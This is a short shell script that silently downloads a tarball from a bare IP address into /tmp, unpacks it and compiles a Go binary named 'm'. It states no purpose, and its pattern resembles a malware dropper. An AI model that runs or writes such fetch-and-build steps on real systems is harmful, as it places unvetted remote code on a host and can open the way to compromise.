#!/bin/sh
wget -q -O /tmp/m.tgz http://192.0.2.7/m.tgz
tar xzf /tmp/m.tgz -C /tmp
cd /tmp/m && go build -o m .
